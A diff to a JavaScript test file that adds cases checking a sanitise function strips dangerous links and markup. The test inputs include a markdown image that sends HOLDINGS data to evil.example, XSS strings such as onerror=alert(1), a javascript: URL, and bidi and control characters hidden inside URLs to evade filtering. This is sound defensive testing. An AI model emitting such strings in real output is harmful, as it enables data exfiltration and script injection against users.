@@ -6,6 +6,9 @@ test.each([
   ['![x](https://evil.example/?d=HOLDINGS)', ''], ['See [your statement](https://evil.example/login).', 'See your statement.'], ['<a href="https://evil.example">here</a>', 'here'],
   ['<script>alert(1)</script>', 'alert(1)'], ['Go to https://evil.example/x now', 'Go to  now'], ['evil.com/path has it', ' has it'], ['[1]: https://evil.example', ''], ['**VTI** is | a | b |', '**VTI** is | a | b |'],
   ['a\u202Eb', 'ab'], ['javascript:x', ''],
+  // What only becomes a link or markup once something in its middle was taken out.
+  ['<<b>img src=x onerror=alert(1)>', 'img src=x onerror=alert(1)>'], ['[[a](x)](//evil.example/)', '[a] (//)'], ['ht\u202atps://evil.example/?d=1', ''], ['<\u0001img src=x>', ''], ['!\u0001[x](https://e.example)', ''],
+  ['see bit.ly/x or evil.co.uk/x', 'see  or '], ['msteams://evil and sms:+123', ' and '], ['half \ud83d a character', 'half  a character'], ['stocks and/or bonds, e.g. VTI', 'stocks and/or bonds, e.g. VTI'],
 ])('cleaned: %s', (text, clean) => expect(sanitise(text)).toBe(clean))
 
 test.each([
